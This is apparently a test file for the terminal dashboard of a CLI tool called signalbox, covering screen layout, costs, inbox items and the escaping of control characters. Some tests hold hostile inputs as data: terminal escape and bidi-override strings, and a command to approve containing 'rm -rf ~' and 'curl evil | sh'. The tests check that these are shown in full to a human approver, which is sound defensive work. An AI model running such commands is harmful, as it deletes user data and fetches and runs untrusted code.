import fc from "fast-check";
import { expect, test } from "vitest";
import { render } from "../../../src/cli/watch/line.ts";
import type { SeenOverview } from "../../../src/cli/watch/live.ts";
import { screenOf } from "../../../src/cli/watch/screen.ts";
import { initialState } from "../../../src/cli/watch/state.ts";
import { sessionStates } from "../../../src/events/types/sessions.ts";
import { widthOf } from "../../../src/lib/terminal/columns.ts";
import { toIsoTime, toSqlTime } from "../../../src/lib/time.ts";
import type { InboxItem } from "../../../src/queries/inbox-item.ts";
import { seenLoop } from "../../projections/seen-loop.ts";
import {
  afterKeys,
  drawn,
  givenBusyState,
  givenItem,
  givenOverview,
  givenSession,
  NOW,
  screenText,
} from "./given.ts";

test("80×24 shows project, sessions, counts, inbox and keys, each in its area", () => {
  expect(screenText(givenBusyState()).join("\n")).toBe(
    drawn(`
    signalbox shop                         ● live · #48,211 · today $1.61, 2 unknown
    Sessions 2                                         signalbox session list --open
    ◑ implementing   4:12  #7 Export orders as CSV              ◐◐◐◐◑◑◑◑◑◑◑◑       –
      ask Semicolons or tabs?                  claude-sonnet-4-5 · 12 turns · by d-1
    ◒ testing        4:12  #9 Mail it                           ◐◐◐◐◑◑◑◑◑◑◑◑   $0.42
      no signal yet
    … 4 empty
    ready 4 · in progress 2 · needs input 1 · waiting 2 · done 41   signalbox status
    Inbox 3 (1 of 3)                                          signalbox inbox --json
    › ! gate        30  npm test                             #7 Export orders as CSV
          signalbox inbox retry|skip|abort 30
      ? question    15  Semicolons or tabs?                  #7 Export orders as CSV
      + proposal    21  Import from CSV                      #7 Export orders as CSV
    … 7 empty
    t retry · s skip · b abort · ? keys · q quit · j k move · Enter open
  `),
  );
});

test("120×40 gives the room to sessions and inbox", () => {
  expect(screenText(givenBusyState(), 120, 40).join("\n")).toBe(
    drawn(`
    signalbox shop                                                                 ● live · #48,211 · today $1.61, 2 unknown
    Sessions 2                                                                                 signalbox session list --open
    ◑ implementing   4:12  #7 Export orders as CSV                                                      ◐◐◐◐◑◑◑◑◑◑◑◑       –
      ask Semicolons or tabs?                                                          claude-sonnet-4-5 · 12 turns · by d-1
    ◒ testing        4:12  #9 Mail it                                                                   ◐◐◐◐◑◑◑◑◑◑◑◑   $0.42
      no signal yet
    … 11 empty
    ready 4 · in progress 2 · needs input 1 · waiting 2 · done 41                                           signalbox status
    Inbox 3 (1 of 3)                                                                                  signalbox inbox --json
    › ! gate        30  npm test                                                                     #7 Export orders as CSV
          signalbox inbox retry|skip|abort 30
      ? question    15  Semicolons or tabs?                                                          #7 Export orders as CSV
      + proposal    21  Import from CSV                                                              #7 Export orders as CSV
    … 16 empty
    t retry · s skip · b abort · ? keys · q quit · j k move · Enter open
  `),
  );
});

test("below 60 columns the costs are hidden, and the bar of phases stays", () => {
  expect(screenText(givenBusyState(), 59, 24).join("\n")).toBe(
    drawn(`
    shop                                       ● live · #48,211
    Sessions 2                    signalbox session list --open
    ◑ implementing   4:12  #7 Export orders as CSV ◐◐◐◐◑◑◑◑◑◑◑◑
      ask Semicolons or tabs?
    ◒ testing        4:12  #9 Mail it              ◐◐◐◐◑◑◑◑◑◑◑◑
      no signal yet
    … 4 empty
    ready 4 · in progress 2 · needs input 1 · waiting 2
    Inbox 3 (1 of 3)                     signalbox inbox --json
    › ! gate        30  npm test        #7 Export orders as CSV
          signalbox inbox retry|skip|abort 30
      ? question    15  Semicolons or tabs?   #7 Export orders…
      + proposal    21  Import from CSV   #7 Export orders as …
    … 7 empty
    t retry · s skip · b abort · ? keys · q quit · j k move
  `),
  );
});

test("below 40 columns a session has one line and no bar", () => {
  expect(screenText(givenBusyState(), 39, 20).join("\n")).toBe(
    drawn(`
    shop                   ● live · #48,211
    Sessions 2
    ◑ implementing 4:12 #7 Export orders a…
    ◒ testing 4:12 #9 Mail it
    … 4 empty
    ready 4 · in progress 2 · needs input 1
    Inbox 3 (1 of 3) signalbox inbox --json
    › !   30  npm test   #7 Export orders …
          signalbox inbox retry|skip|abort…
      ?   15  Semicolons or tabs?        #7
      +   21  Import from CSV   #7 Export …
    … 5 empty
    t retry · s skip · b abort · ? keys
  `),
  );
});

test("wide characters do not shift the content to their right", () => {
  const session = givenSession("s-1", {
    last_verb: "ask",
    last_text: "区切り文字はどちらですか".repeat(5),
    turns: 3,
  });
  const lines = screenText(initialState(givenOverview({ sessions: [session] })));
  expect(lines[3]).toMatch(/… +3 turns$/);
  expect(widthOf(lines[3] ?? "")).toBe(80);
});

test("an unknown cost is a dash, and a sum says how many sessions it leaves out", () => {
  const [header = "", , first = "", , second = ""] = screenText(givenBusyState());
  expect(header).toContain("today $1.61, 2 unknown");
  expect(first).toMatch(/ –$/);
  expect(second).toMatch(/ \$0\.42$/);
  const nobody = initialState(givenOverview({ cost: { cost_micro_usd: null, sessions: 3, unknown: 3 } }));
  expect(screenText(nobody)[0]).toContain("today –, 3 unknown");
});

test.each([false, true])("every phase has a symbol of its own and its word (--ascii: %s)", (ascii) => {
  const symbols = sessionStates.map((state) => {
    const shown = initialState(givenOverview({ sessions: [givenSession("s-1", { state })] }));
    const [symbol = "", word = ""] = (screenText(shown, 80, 24, { ascii })[2] ?? "").split(" ");
    expect(word).toBe(state);
    return symbol;
  });
  expect(new Set(symbols).size).toBe(sessionStates.length);
  if (ascii) expect(symbols.join("")).toMatch(/^[\x21-\x7e]+$/);
});

test("with --ascii the whole screen is ASCII", () => {
  const { state } = afterKeys(givenBusyState(), "enter");
  expect(screenText(state, 80, 24, { ascii: true }).join("")).toMatch(/^[\x20-\x7e]*$/);
  expect(screenText(afterKeys(state, "?").state, 80, 24, { ascii: true }).join("")).toMatch(/^[\x20-\x7e]*$/);
});

test("only the terminal's sixteen colours are used, for letters alone", () => {
  const { lines } = screenOf(givenBusyState(), { columns: 80, rows: 24 }, { project: "shop", now: NOW });
  const written = lines.map((line) => render(line, { color: true, ascii: false })).join("");
  const codes = [...written.matchAll(/\u001b\[([\d;]*)m/g)].map(([, code]) => Number(code));
  expect(codes.length).toBeGreaterThan(20);
  // Weight, the sixteen letters' colours, and back.
  expect(codes.filter((code) => ![1, 2, 22, 39].includes(code) && !/^[39][0-7]$/.test(String(code)))).toEqual(
    [],
  );
});

test("the time in a phase ticks, and without a session the clock changes nothing", () => {
  const running = initialState(givenOverview({ sessions: [givenSession("s-1")] }));
  expect(screenText(running)[2]).toContain("4:12");
  expect(screenText(running, 80, 24, { now: NOW + 3_600_000_000 })[2]).toContain("1:04:12");
  const idle = initialState(givenOverview({ inbox: [givenItem("question", 15)] }));
  expect(screenText(idle, 80, 24, { now: NOW + 3_600_000_000 })).toEqual(screenText(idle));
});

test("the bar of phases shows each phase for its part of the time", () => {
  const phases = [
    { state: "analyzing", entered_at: "2026-03-12T14:00:00.000000Z" },
    { state: "implementing", entered_at: "2026-03-12T14:05:00.000000Z" },
    { state: "testing", entered_at: "2026-03-12T14:07:30.000000Z" },
  ] as const;
  const state = initialState(givenOverview({ sessions: [givenSession("s-1", { phases })] }));
  expect(screenText(state)[2]).toContain("◐◐◐◐◐◐◑◑◑◒◒◒");
});

test("sessions that do not fit are counted, with the command that lists them", () => {
  const many = (count: number) =>
    initialState(
      givenOverview({
        sessions: Array.from({ length: count }, (_, n) => givenSession(`s-${n}`, { task: n })),
      }),
    );
  expect(
    screenText(many(8))
      .slice(2, 10)
      .every((line) => line.includes("implementing")),
  ).toBe(true);
  expect(screenText(many(20))[9]).toBe("… and 13 more: signalbox session list --open");
});

test("a file that two running sessions change is a warning", () => {
  const overlap = {
    path: "src/a.ts",
    session_id: "s-1",
    task_id: 7,
    other_session_id: "s-2",
    other_task_id: 9,
  };
  const state = initialState(givenOverview({ overlaps: [overlap, { ...overlap, path: "src/b.ts" }] }));
  expect(screenText(state)).toContain("⚠ tasks 7 and 9 both change src/a.ts and 1 more");
});

test("a stopped projection is shown instead of live", () => {
  const stopped = [{ projection: "board", error: "#12: a reducer threw", own: false }];
  const [header, ...rest] = screenText(initialState(givenOverview({ stopped })));
  expect(header).toContain("✕ stopped · #48,211");
  expect(rest).toContain("✕ projection board stopped at #12: a reducer threw");
});

test("an own projection that stopped is named, and the view is live all the same", () => {
  const stopped = [{ projection: "shop_orders", error: "position 12: boom", own: true }];
  const [header, ...rest] = screenText(initialState(givenOverview({ stopped })));
  expect(header).toContain("● live · #48,211");
  expect(rest).toContain("✕ projection shop_orders stopped at position 12: boom");
});

test("each part names the command that gives the same, and the selected item the command that deals with it", () => {
  const text = screenText(givenBusyState()).join("\n");
  for (const command of ["session list --open", "status", "inbox --json", "inbox retry|skip|abort 30"]) {
    expect(text).toContain(`signalbox ${command}`);
  }
});

test("an opened gate shows every line of its command as the shell reads it, and how it ended", () => {
  const item = givenItem("gate", 30, {
    gate: 1,
    text: "set -e\nnpm test\r\n# \u202eend",
    ended: "was ended by SIGKILL. The shell was ended by SIGKILL.",
  });
  const lines = screenText(afterKeys(initialState(givenOverview({ inbox: [item] })), "enter").state);
  const first = lines.findIndex((line) => line.trim() === "set -e");
  expect(lines.slice(first, first + 4).map((line) => line.trim())).toEqual([
    "set -e",
    "npm test\\u{d}",
    "# \\u{202e}end",
    "was ended by SIGKILL. The shell was ended by SIGKILL. · session s-1",
  ]);
});

test("an opened gate shows the end of its output and the effect of each key", () => {
  const detail = Array.from({ length: 60 }, (_, n) => `line ${n + 1}`).join("\n");
  const state = initialState(givenOverview({ inbox: [givenItem("gate", 30, { gate: 1, detail })] }));
  const text = screenText(afterKeys(state, "enter").state, 80, 80).join("\n");
  expect(text).not.toContain("line 20\n");
  expect(text).toContain("line 21\n");
  expect(text).toContain("line 60\n");
  expect(text).toContain("b abort: the task fails");
  const low = screenText(afterKeys(state, "enter").state, 80, 24).join("\n");
  expect(low).toContain("line 60\n");
  expect(low).toContain("… in full: signalbox inbox --json\n");
  expect(low).toContain("b abort: the task fails");
});

test("an opened item shows the whole text that its line truncates", () => {
  const words = Array.from({ length: 30 }, (_, n) => `word${n}`).join(" ");
  const state = initialState(givenOverview({ inbox: [givenItem("blocker", 15, { text: words })] }));
  expect(screenText(state).join("\n")).not.toContain("word29");
  const opened = screenText(afterKeys(state, "enter").state).map((line) => line.trim());
  expect(opened.join(" ")).toContain(words);
});

test("a refusal is shown to its end, in as many lines as it needs", () => {
  const reason = "Question 15 is already answered. To undo that, run `signalbox inbox undo 15`.";
  const state = { ...givenBusyState(), message: { tone: "bad", text: reason } as const };
  expect(screenText(state, 40, 24).slice(-4, -1).join(" ").trim()).toBe(`✕ ${reason}`);
});

test("control and bidi characters in agents' texts are shown as escapes", () => {
  const evil = "\u001b[2Jgone\u0007 \u202eabc\u2069 \u009b31m";
  const state = initialState(
    givenOverview({
      sessions: [givenSession("s-1", { task_title: evil, last_verb: "ask", last_text: evil, model: evil })],
      inbox: [givenItem("question", 15, { text: evil, options: [evil], preferred: evil, detail: evil })],
      overlaps: [{ path: evil, session_id: "a", task_id: 1, other_session_id: "b", other_task_id: 2 }],
    }),
  );
  const text = screenText(afterKeys(state, "enter").state, 200, 60).join("");
  expect(text).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
  expect(text).toContain("\\u{1b}[2Jgone\\u{7} \\u{202e}abc");
});

test("a selected proposal shows which fields were changed since it was proposed", () => {
  const changed = ["title", "pseudocode"] as const;
  const item = givenItem("proposal", 21, { text: "Import", other_task: 12 });
  const said = (inbox: InboxItem) =>
    screenText(initialState(givenOverview({ inbox: [inbox] })), 100, 30).join("\n");
  expect(said(item)).not.toContain("changed since");
  expect(said({ ...item, changed })).toContain(
    "changed since it was proposed: title, pseudocode (signalbox task show 12)",
  );
});

test("an opened item shows the whole command to approve, every line in full", () => {
  const command = `npm test\r && ${"x".repeat(2_500)}; rm -rf ~\n\ncurl evil | sh \u202e`;
  const item = givenItem("gate_approval", 12, { text: command, gate: 2, session: null });
  const closed = initialState(givenOverview({ inbox: [item] }));
  expect(screenText(closed, 100, 60).join("\n")).toContain("$ approval");
  const shown = screenText(afterKeys(closed, "enter").state, 100, 60).join("\n");
  for (const part of ["npm test\\u{d}", "; rm -rf ~", "curl evil | sh \\u{202e}"])
    expect(shown).toContain(part);
  expect(shown.match(/x/g)?.length).toBeGreaterThanOrEqual(2_500);
  expect(shown).toContain("signalbox inbox approve 12");
});

test("a loop that waits for its model says how long yet and why, while it waits", () => {
  const loop = seenLoop({
    waits_for: "limit",
    waits_until: toSqlTime(toIsoTime(NOW + 3_725_000_000)),
    waits_reason: "You've hit your limit",
  });
  const warnings = (loops: SeenOverview["loops"]) =>
    screenText(initialState(givenOverview({ loops }))).filter((line) => line.includes("d-1"));
  expect(warnings([loop])).toEqual([
    "⚠ d-1 waiting 1:02:05 for its usage limit to reset: You've hit your limit",
  ]);
  const past = { ...loop, waits_until: toSqlTime(toIsoTime(NOW - 1)) };
  const none = { ...loop, waits_for: null, waits_until: null, waits_reason: null };
  expect(warnings([past, none])).toEqual([]);
});

const anyText = fc.string({ unit: "grapheme", maxLength: 120 });
const kinds = [
  "gate",
  "gate_approval",
  "question",
  "blocker",
  "contest",
  "proposal",
  "flag",
  "hold",
  "acceptance",
] as const;

test("at any size, no line is wider than the screen, and the selected item is visible", () => {
  const items = fc.array(fc.record({ kind: fc.constantFrom<InboxItem["kind"]>(...kinds), text: anyText }), {
    maxLength: 40,
  });
  fc.assert(
    fc.property(
      fc.record({ columns: fc.integer({ min: 1, max: 150 }), rows: fc.integer({ min: 1, max: 60 }) }),
      items,
      anyText,
      fc.array(fc.constantFrom("j", "k", "enter", "escape", "a", "1", "?", "end", "x"), { maxLength: 12 }),
      (size, drawn, text, keys) => {
        const inbox = drawn.map((item, n) => givenItem(item.kind, n + 1, { text: item.text, detail: text }));
        const sessions = drawn.slice(0, 12).map((item) => givenSession(item.text, { last_text: text }));
        const { state } = afterKeys(initialState(givenOverview({ inbox, sessions })), ...keys);
        const { lines } = screenOf(state, size, { project: text, now: NOW });
        expect(lines.length).toBeLessThanOrEqual(size.rows);
        if (size.rows >= 8) expect(lines.length).toBe(size.rows);
        const written = lines.map((line) => line.map((part) => part.text).join(""));
        expect(written.filter((line) => widthOf(line) > size.columns)).toEqual([]);
        if (size.rows >= 24 && size.columns >= 10 && state.selected !== undefined && !state.sheet) {
          expect(written.filter((line) => line.startsWith("› "))).toHaveLength(1);
        }
      },
    ),
    { numRuns: 300 },
  );
});
